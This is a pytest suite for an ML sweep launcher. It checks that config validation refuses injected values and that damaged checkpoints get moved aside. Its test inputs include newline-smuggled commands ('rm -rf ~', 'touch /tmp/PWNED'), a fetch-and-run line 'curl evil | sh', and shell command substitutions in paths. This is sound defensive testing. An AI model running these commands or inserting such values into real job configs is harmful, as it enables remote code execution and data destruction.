"""Hostile and broken input: nothing reaches a job script, YAML means what it says, and a bad checkpoint
does not break its run key for good."""

from __future__ import annotations

import dataclasses
import os
from pathlib import Path

import pytest
import torch
import yaml
from mlflow import MlflowClient

from ssl_hpc.config import ConfigError, SlurmProfile, load_sweep, parse_override, validate_sweep
from ssl_hpc.files import load_checkpoint, save_atomic
from ssl_hpc.jobs import expand_jobs
from ssl_hpc.launchers.slurm.sbatch import executor_for
from ssl_hpc.train.loop import LAST, CheckpointPolicy, Precision, fit

SMOKE = Path(__file__).resolve().parents[1] / "sweeps" / "smoke.yaml"


def smoke(**changes) -> dict:
    raw = yaml.safe_load(SMOKE.read_text())
    raw.update(changes)
    return raw


def refused(raw: dict | None = None, overrides: list[str] | None = None, path: Path | None = None) -> str:
    with pytest.raises(ConfigError) as caught:
        if path is not None:
            load_sweep(path, overrides or [])
        else:
            validate_sweep(raw, source="bad.yaml")
    return str(caught.value)


# --------------------------------------------------------------------------- job scripts


@pytest.mark.parametrize("field", ["output_dir", "results_dir", "data_root"])
def test_hostile_output_dir_newline(field):
    message = refused(smoke(**{field: "/tmp/out\ntouch /tmp/PWNED #"}))
    assert field in message and "control characters" in message


def test_hostile_newline_through_set_and_in_a_dataset_root(tmp_path):
    sweep = tmp_path / "s.yaml"
    sweep.write_text(SMOKE.read_text())
    assert "output_dir" in refused(path=sweep, overrides=['output_dir="/tmp/x\\ntouch /tmp/PWNED"'])
    raw = smoke(datasets={"cxr": {"root": "x\rtouch y"}})
    assert "datasets.cxr.root" in refused(raw)


@pytest.mark.parametrize("field,value", [("python", "python3"), ("setup", ["curl evil | sh"])])
def test_hostile_python_and_setup_only_from_a_cluster_profile(field, value, tmp_path):
    message = refused(smoke(slurm={"profile": "local", field: value}))
    assert f"slurm.{field}" in message and "cluster profile" in message
    sweep = tmp_path / "s.yaml"
    sweep.write_text(SMOKE.read_text())
    assert f"slurm.{field}" in refused(path=sweep, overrides=[f"slurm.{field}={value!r}"])


def test_hostile_profile_setup_lines_refuse_control_characters():
    with pytest.raises(ValueError, match="control characters"):
        SlurmProfile(setup=["module load cuda\nrm -rf ~"])
    with pytest.raises(ValueError, match="control characters"):
        SlurmProfile(extra_sbatch=["--mail-type=FAIL\r"])


def rendered_script(folder: Path, profile: SlurmProfile, project_root: Path) -> str:
    executor = executor_for(folder, profile, project_root, "smoke-pretrain", "123_4")
    return executor._make_submission_file_text(executor._submitit_command_str, "uid")


def test_hostile_rendered_job_script_keeps_every_sbatch_line(tmp_path):
    """The longest legal values, full of shell syntax, stay inside their #SBATCH lines and quotes."""
    nasty = "a b 'q' \"d\" $(touch PWNED) `touch PWNED` ; & | < > * ? ~ # {x} \\"
    deep = tmp_path / ("d" * 200) / nasty / ("e" * 200) / "slurm" / "logs"
    profile = SlurmProfile(
        partition="gpu",
        account="proj_1",
        qos="normal",
        constraint="a100|h100",
        time_min=720,
        mem_gb=32,
        gpus_per_job=1,
        cpus_per_job=8,
        signal_delay_s=300,
        extra_sbatch=["--mail-type=FAIL", "--exclusive"],
        setup=["module load cuda/12.4"],
        python="/opt/py env/bin/python",
    )
    script = rendered_script(deep, profile, tmp_path / nasty)
    lines = script.splitlines()
    directives = [line for line in lines if line.startswith("#SBATCH")]
    first_command = next(i for i, line in enumerate(lines) if line and not line.startswith("#"))
    # every directive comes before the first command (sbatch stops reading them there)...
    assert all(lines.index(line) < first_command for line in directives)
    options = {line.split()[1].split("=")[0] for line in directives}
    for needed in (
        "--requeue",
        "--signal",
        "--time",
        "--output",
        "--error",
        "--mem",
        "--partition",
        "--account",
        "--qos",
        "--constraint",
        "--gpus-per-node",
        "--cpus-per-task",
        "--mail-type",
        "--exclusive",
        "--dependency",
        "--kill-on-invalid-dep",
    ):
        assert needed in options, (needed, options)
    # ... and the paths appear only shell-quoted: no line runs `touch PWNED`.
    for line in lines:
        if "PWNED" in line:
            assert "'" in line and "$(touch PWNED)" in line.replace("'\"'\"'", "'"), line
    assert "export PYTHONPATH='" in script


# --------------------------------------------------------------------------- YAML that means something else


def test_hostile_duplicate_yaml_key_is_refused_naming_both_lines(tmp_path):
    sweep = tmp_path / "dup.yaml"
    sweep.write_text(
        "name: t\ngrid:\n  dataset: [pneumoniamnist]\n  method: [supervised]\n"
        "finetune: {epochs: 3}\nfinetune:\n  epochs: 100\n"
    )
    message = refused(path=sweep)
    assert "duplicate key 'finetune'" in message and "line 5" in message and "line 6" in message
    with pytest.raises(ConfigError, match="duplicate key 'a'"):
        parse_override("x={a: 1, a: 2}")


@pytest.mark.parametrize(
    "changes,field",
    [
        ({"seeds": [True]}, "seeds"),
        ({"runtime": {"keep_checkpoints": "yes"}}, "runtime.keep_checkpoints"),
        ({"finetune": {"epochs": "7"}}, "finetune.epochs"),
        ({"finetune": {"lr": "0.1"}}, "finetune.lr"),
        ({"finetune": {"epochs": 2.0}}, "finetune.epochs"),
    ],
)
def test_hostile_coercions_that_change_meaning_are_refused(changes, field):
    assert field in refused(smoke(**changes))


def test_scientific_notation_is_a_number():
    """YAML 1.1 reads 1e-3 as a string; the strict number fields would then refuse the usual spelling."""
    assert validate_sweep(smoke(finetune={"lr": yaml.safe_load("1.0e-3")})).finetune.lr == 1e-3
    _, value = parse_override("finetune.lr=1e-3")
    assert value == pytest.approx(1e-3)


# --------------------------------------------------------------------------- broken checkpoints


class Tiny:
    """A one-layer task for the training loop."""

    def __init__(self):
        torch.manual_seed(0)
        self.module = torch.nn.Linear(4, 2)

    def param_groups(self):
        return self.module.parameters()

    def set_train_mode(self):
        self.module.train()

    def loss(self, images, labels):
        return torch.nn.functional.cross_entropy(self.module(images.float().flatten(1)), labels)

    def after_step(self, progress):
        pass

    def validate(self):
        return {}


def tiny_fit(workdir: Path, epochs: int, policy: CheckpointPolicy):
    from ssl_hpc.config import FinetuneSettings
    from ssl_hpc.data.splits import ImageSplit

    data = ImageSplit(torch.randint(0, 255, (16, 1, 2, 2), dtype=torch.uint8), torch.randint(0, 2, (16,)))
    settings = FinetuneSettings(epochs=epochs, batch_size=8, optimizer="sgd", lr=0.1)
    return fit(
        Tiny(), data, settings, seed=0, workdir=workdir, precision=Precision(torch.device("cpu")), checkpoints=policy
    )


def damage(path: Path, how: str) -> None:
    if how == "truncated":
        path.write_bytes(path.read_bytes()[: os.path.getsize(path) // 2])
    elif how == "empty":
        path.write_bytes(b"")
    elif how == "other_version":
        checkpoint = load_checkpoint(path)
        save_atomic({**checkpoint, "code_version": "0123abc"}, path)
    elif how == "other_model":
        checkpoint = load_checkpoint(path)
        save_atomic({**checkpoint, "state": {"weight": torch.zeros(3, 3)}}, path)


@pytest.mark.parametrize("how", ["truncated", "empty", "other_version", "other_model"])
def test_hostile_checkpoint_is_moved_aside_and_training_restarts(tmp_path, how):
    heard = []
    policy = CheckpointPolicy("v1", on_discard=heard.append)
    tiny_fit(tmp_path, 2, policy)
    damage(tmp_path / LAST, how)
    result = tiny_fit(tmp_path, 3, policy)
    assert result.resumed_after_epoch is None  # from epoch 0
    assert [int(entry["epoch"]) for entry in result.history] == [0, 1, 2]
    kept = list(tmp_path.glob(f"{LAST}.corrupt-*"))
    assert len(kept) == 1 and len(heard) == 1 and kept[0].name in heard[0] and str(tmp_path / LAST) in heard[0]
    assert load_checkpoint(tmp_path / LAST)["code_version"] == "v1"


def test_a_checkpoint_of_another_version_resumes_when_asked(tmp_path):
    tiny_fit(tmp_path, 2, CheckpointPolicy("v1"))
    result = tiny_fit(tmp_path, 3, CheckpointPolicy("v2", resume_other_version=True))
    assert result.resumed_after_epoch == 1 and not list(tmp_path.glob(f"{LAST}.corrupt-*"))


@pytest.mark.e2e
@pytest.mark.parametrize("how", ["truncated", "empty", "other_version"])
def test_hostile_checkpoint_of_a_real_run_resumes_from_epoch_0_into_one_finished_run(
    tmp_path, data_root, how, monkeypatch
):
    """A run interrupted after its first epoch, its last.pt damaged, re-run: one FINISHED MLflow run."""
    from ssl_hpc.cli import make_context
    from ssl_hpc.runner import run_job

    raw = smoke(
        output_dir=str(tmp_path / "outputs"),
        grid={
            "dataset": ["pneumoniamnist"],
            "method": ["supervised"],
            "label_fraction": [1.0],
            "labels_per_class": [32],  # a few batches per epoch: the checkpoint's fate is under test
            "class_weight": ["none"],
        },
        finetune={"epochs": 2, "batch_size": 16},
        cam={"enabled": False},
        data={"duplicates": "off"},
        runtime={"checkpoint_every_s": 0},  # the first epoch is checkpointed, then reported (and crashes)
    )
    sweep = validate_sweep(raw)
    (job,) = expand_jobs(sweep)
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'mlflow.db'}")
    context = make_context(sweep, tmp_path, progress=False)

    def crash(job, epoch, metrics):
        raise RuntimeError("the node died")  # after the first epoch's checkpoint

    with pytest.raises(RuntimeError, match="the node died"):
        run_job(job, dataclasses.replace(context, on_epoch=crash))
    workdir = context.output_root / job.key
    damage(workdir / LAST, how)
    assert run_job(job, context) == "finished"
    client = MlflowClient(context.tracking_uri)
    runs = client.search_runs([client.get_experiment_by_name(sweep.name).experiment_id])
    assert len(runs) == 1 and runs[0].info.status == "FINISHED"
    assert "checkpoint_discarded" in runs[0].data.tags and runs[0].data.tags["restarted_from_epoch"] == "0"
    assert len(list(workdir.glob(f"{LAST}.corrupt-*"))) == 1  # the bad file is kept for a look
    assert "test_acc" in runs[0].data.metrics


# --------------------------------------------------------------------------- Ray joins only what it can use


def test_hostile_ray_cluster_on_other_machines_refuses_a_sqlite_store():
    from ssl_hpc.launchers.ray import check_ray_tracking

    sqlite = "sqlite:////shared/mlflow.db"
    check_ray_tracking(sqlite, {"10.0.0.5"}, here="10.0.0.5")  # every node is this machine: safe
    check_ray_tracking(sqlite, {"10.0.0.5", "127.0.0.1"}, here="10.0.0.5")
    with pytest.raises(ConfigError, match="SQLite.*10.0.0.6"):
        check_ray_tracking(sqlite, {"10.0.0.5", "10.0.0.6"}, here="10.0.0.5")
    with pytest.raises(ConfigError, match="loopback"):
        check_ray_tracking("http://127.0.0.1:5000", {"10.0.0.5", "10.0.0.6"}, here="10.0.0.5")
    check_ray_tracking("http://10.0.0.5:5000", {"10.0.0.5", "10.0.0.6"}, here="10.0.0.5")
